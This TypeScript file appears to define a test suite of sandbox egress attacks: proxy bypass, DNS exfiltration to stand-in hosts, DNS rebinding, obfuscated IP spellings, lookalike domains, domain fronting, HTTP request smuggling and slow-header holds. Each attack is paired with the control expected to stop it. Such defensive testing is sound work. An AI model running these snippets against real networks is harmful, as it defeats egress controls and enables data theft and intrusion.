import { clientHello, ECH, type Hello } from "../../clientHello.ts";
import { HOST, NAMES, NETWORK, SERVER } from "../../outside.ts";
import type { EgressAttack, EgressConfiguration } from "./attack.ts";

/** The job stands on the outside network itself. */
const onTheOutside = (careless: EgressConfiguration) => {
	careless.job = (body) => {
		if (body.HostConfig) body.HostConfig.NetworkMode = NETWORK;
	};
};
const everyName = ({ policy }: EgressConfiguration) =>
	policy.rules.push({ host: "*", port: 80 }, { host: "*", port: 443 });
const everyAddress = ({ edits }: EgressConfiguration) =>
	edits.push({ file: "address.ts", from: /return !v4\.check.*/, to: "return true;" });
const anyText = ({ edits }: EgressConfiguration) =>
	edits.push({ file: "authority.ts", from: /const NAME = .*/, to: "const NAME = /./;" });
const both =
	(...parts: ((careless: EgressConfiguration) => unknown)[]) =>
	(careless: EgressConfiguration) => {
		for (const part of parts) part(careless);
	};

const anyOpening = ({ edits }: EgressConfiguration) =>
	edits.push({ file: "tunnel.ts", from: "judgeOpening(opening, wanted)", to: '"pass" as string' });
const hex = (hello: Hello) => `Buffer.from("${clientHello(hello).toString("hex")}", "hex")`;

const elsewhere = (name: string) => `
	const { status } = await get("http://${name}/").catch(refused);
	return status !== 0 && status !== 403;`;

/** Names allowed in all of them: api.example.com:80, api.example.com:443, *.example.org:80, *.example.org:443. */
export const egressAttacks: EgressAttack[] = [
	{
		name: "connects around its proxy",
		runs: `return await direct("${SERVER}", 80);`,
		stoppedBy: "a network of its own that leads nowhere",
		off: onTheOutside,
	},
	{
		name: "sends datagrams around its proxy",
		runs: `
			const socket = dgram.createSocket("udp4");
			const question = Buffer.from("\\0\\x01\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06secret\\x05exfil\\x07example\\0\\0\\x01\\0\\x01", "latin1");
			const answered = new Promise((done) => socket.on("message", () => done(true)).on("error", () => done(false)));
			socket.send(question, 53, "${NAMES}", () => {});
			return await Promise.race([answered, sleep(3000)]);`,
		unheard: /exfil/,
		stoppedBy: "a network of its own that leads nowhere",
		off: onTheOutside,
	},
	{
		name: "reaches the machine by its address in the network",
		// The first address of the network is the one that engines give themselves.
		runs: `
			const [{ address }] = Object.values(require("node:os").networkInterfaces()).flat().filter(({ internal }) => !internal);
			return await direct(address.replace(/\\d+$/, "1"), 80);`,
		stoppedBy: "a bridge without an address",
		off: ({ network }) => {
			network.Options = {};
		},
	},
	{
		name: "reaches the machine by its other addresses",
		runs: `return (await Promise.all([direct("172.17.0.1", 80), direct("${HOST}", 80)])).some(Boolean);`,
		stoppedBy: "a network of its own that leads nowhere",
		off: onTheOutside,
	},
	{
		name: "asks for the machine by a public name",
		runs: elsewhere("host.example.org"),
		stoppedBy: "the machine's own addresses are refused",
		off: ({ policy }) => {
			policy.ownAddresses = [];
		},
	},
	{
		name: "asks for the metadata service by a name",
		runs: elsewhere("metadata.example.org"),
		stoppedBy: "addresses are judged after the name was looked up",
		off: everyAddress,
	},
	{
		name: "asks for the provider's network by a name",
		runs: elsewhere("private.example.org"),
		stoppedBy: "addresses are judged after the name was looked up",
		off: everyAddress,
	},
	{
		name: "hides a private address behind a public one",
		runs: elsewhere("mixed.example.org"),
		stoppedBy: "one address that is not public spoils all",
		off: everyAddress,
	},
	{
		name: "changes where a name leads between two looks (rebinding)",
		runs: `
			const first = await get("http://rebind.example.org/");
			const second = await get("http://rebind.example.org/").catch(refused);
			return first.status === 200 && second.status === 200;`,
		stoppedBy: "each connection goes to the very address that was judged",
		off: everyAddress,
	},
	{
		name: "writes an address in place of a name, in every spelling",
		runs: `
			const spellings = ["172.17.0.1", "2886795265", "0254.021.0.1", "0xac.0x11.0x0.0x1", "0xac110001", "172.17.1", "[::ffff:172.17.0.1]", "[::1]", "172.17.0.1.", "127.1", "localhost"];
			const answers = [];
			for (const one of spellings) answers.push((await get("http://" + one + ":80/").catch(refused)).status);
			return answers.some((status) => status !== 400 && status !== 403 && status !== 0);`,
		stoppedBy: "only names are names",
		off: anyText,
		secondControl: "the list of names",
	},
	{
		name: "asks for a name that only looks like an allowed one",
		runs: `
			const names = ["evil-example.org", "example.org.evil-example.org", "api.example.com.evil-example.org", "api.example.com@evil-example.org", "evil-example.org#.example.org", "evil-example.org.", "www.example.org.", "ex\\u00e4mple.org", "www.example.org%00.evil-example.org", "example.org"];
			const answers = [];
			for (const one of names) answers.push((await get("http://" + encodeURI(one) + "/").catch(refused)).status);
			return answers.some((status) => status === 200 || status === 502);`,
		stoppedBy: "the list of names",
		off: everyName,
	},
	{
		name: "asks for another port of an allowed name",
		runs: `return (await connect("api.example.com:8080").catch(refused)).status === 200;`,
		stoppedBy: "the list of ports",
		off: ({ policy }) => {
			policy.rules.push({ host: "api.example.com", port: 8080 });
		},
	},
	{
		name: "names one host in the line and another in the header",
		runs: `
			const page = await get("http://api.example.com/", { host: "evil-example.org" }).catch(refused);
			const tunnel = await connect("api.example.com:443", "evil-example.org:443").catch(refused);
			return page.text.includes("evil") || tunnel.status === 200;`,
		stoppedBy: "both must name the same place",
		off: ({ edits }) => {
			edits.push({ file: "server.ts", from: /return isNamedBy\(.*/, to: "return gate(wanted);" });
		},
	},
	{
		name: "speaks TLS to another name than it asked for (domain fronting)",
		runs: `return (await said("api.example.com:443", ${hex({ names: ["evil.example"] })})).startsWith("\\x16");`,
		stoppedBy: "TLS must show the name that the tunnel was opened for",
		off: anyOpening,
	},
	{
		name: "hides whom it speaks TLS to (ECH, no name, a name in pieces after a second one)",
		runs: `
			const answers = [];
			for (const hello of [${[{ names: ["api.example.com"], extensions: [ECH] }, {}, { names: ["api.example.com", "evil.example"], recordBytes: 7 }].map(hex).join()}]) answers.push(await said("api.example.com:443", hello));
			return answers.some((answer) => answer.startsWith("\\x16"));`,
		stoppedBy: "TLS must show the name that the tunnel was opened for",
		off: anyOpening,
	},
	{
		name: "asks another host for a page, in a tunnel",
		runs: `return (await said("api.example.com:80", "GET / HTTP/1.1\\r\\nHost: evil.example\\r\\nConnection: close\\r\\n\\r\\n")).includes("evil.example");`,
		unheard: /evil\.example/,
		stoppedBy: "plain pages are asked for without a tunnel",
		off: anyOpening,
	},
	{
		name: "hides a second request in a first (smuggling through the proxy)",
		runs: `
			const hidden = "GET http://api.example.com/smuggled HTTP/1.1\\r\\nHost: evil-example.org\\r\\n\\r\\n";
			const heads = ["Content-Length: " + hidden.length + "\\r\\nTransfer-Encoding: chunked", "Content-Length: 0\\r\\nContent-Length: " + hidden.length, "Transfer-Encoding: xchunked", "Transfer-Encoding : chunked", "Content-Length: 0\\r\\n Transfer-Encoding: chunked", "Connection: Content-Length\\r\\nContent-Length: " + hidden.length];
			const answers = [];
			for (const head of heads) answers.push(await raw("POST http://api.example.com/first HTTP/1.1\\r\\nHost: api.example.com\\r\\n" + head + "\\r\\n\\r\\n0\\r\\n\\r\\n" + hidden));
			return answers.some((answer) => answer.includes("evil"));`,
		unheard: /smuggled/,
		stoppedBy: "strict parsing, and every request written anew on a connection of its own",
		off: ({ edits }) => {
			edits.push({ file: "server.ts", from: "requestTimeout: 0,", to: "requestTimeout: 0, insecureHTTPParser: true," });
		},
		secondControl: "every request is written anew",
	},
	{
		name: "holds connections by sending nothing to the end (slow headers)",
		runs: `
			const socket = net.connect({ host: proxy.hostname, port: proxy.port });
			let open = true;
			socket.on("close", () => { open = false; }).on("error", () => {});
			socket.write("GET http://api.example.com/ HTTP/1.1\\r\\n");
			for (let turn = 0; turn < 15; turn += 1) { await sleep(1000); if (open) socket.write("X: y\\r\\n"); }
			return open;`,
		stoppedBy: "a time limit for heads",
		off: ({ edits }) => {
			edits.push({ file: "server.ts", from: /const HEAD_MS = .*/, to: "const HEAD_MS = 600_000;" });
		},
	},
	{
		name: "opens more connections than allowed at once",
		runs: `
			const all = await Promise.all(Array.from({ length: 20 }, async (_, turn) => { await sleep(turn * 200); return connect("api.example.com:443").catch(refused); }));
			return all.filter(({ status }) => status === 200).length > 8;`,
		stoppedBy: "a limit of connections at once",
		off: ({ policy }) => {
			policy.connections = 100;
		},
	},
	{
		name: "opens connections faster than allowed",
		runs: `
			let made = 0;
			const until = Date.now() + 2000;
			while (Date.now() < until && made < 60) {
				const { status, socket } = await connect("api.example.com:443").catch(refused);
				if (status === 200) made += 1;
				socket?.destroy();
			}
			console.log(made);
			return made > 25;`,
		stoppedBy: "a rate of new connections",
		off: ({ policy }) => {
			policy.connectionsPerSecond = 1000;
		},
	},
	{
		name: "moves more bytes than allowed",
		runs: `
			for (let turn = 0; turn < 4; turn += 1) {
				const { status, text } = await get("http://api.example.com/large").catch(refused);
				if (status !== 200 || text.includes("cut")) return false;
			}
			return true;`,
		stoppedBy: "a quota of bytes",
		off: ({ policy }) => {
			policy.maxBytes = 2 ** 30;
		},
	},
	{
		name: "carries secrets out in questions for names",
		runs: `
			const own = dns.resolve4("secret.exfil.example");
			const others = ["${NAMES}", "127.0.0.11"].map((server) => {
				const resolver = new dns.Resolver({ timeout: 1500, tries: 1 });
				resolver.setServers([server]);
				return resolver.resolve4("secret.exfil.example");
			});
			const asked = [...others, get("http://secret.exfil.example/")];
			const ended = await Promise.allSettled([Promise.race([own, sleep(3000).then(() => Promise.reject(new Error("none")))]), ...asked]);
			console.log(ended.map(({ reason, value }) => reason?.code ?? value?.status).join());
			return ended.slice(0, 3).some(({ status, reason }) => status === "fulfilled" || reason.code === "ENOTFOUND");`,
		unheard: /exfil/,
		stoppedBy: "no name server for the job, and no look-up of names that are not allowed",
		off: both(onTheOutside, everyName),
	},
	{
		name: "uses another job's proxy",
		runs: `return (await Promise.all([direct(process.env.OTHER_INNER, 3128), direct(process.env.OTHER_OUTER, 3128)])).some(Boolean);`,
		stoppedBy: "a network of its own that leads nowhere",
		off: (careless) => {
			careless.job = (body) => {
				const other = body.Env?.find((line) => line.startsWith("OTHER_NETWORK="))?.slice("OTHER_NETWORK=".length);
				if (body.HostConfig && other) body.HostConfig.NetworkMode = other;
			};
		},
	},
	{
		name: "goes on when its proxy has died",
		runs: `
			for (let turn = 0; turn < 100 && (await direct(proxy.hostname, proxy.port)); turn += 1) await sleep(100);
			const page = await get("http://api.example.com/").catch(refused);
			return page.status === 200 || (await direct("${SERVER}", 80));`,
		withoutProxy: true,
		stoppedBy: "the proxy is the only way out",
		off: onTheOutside,
	},
];
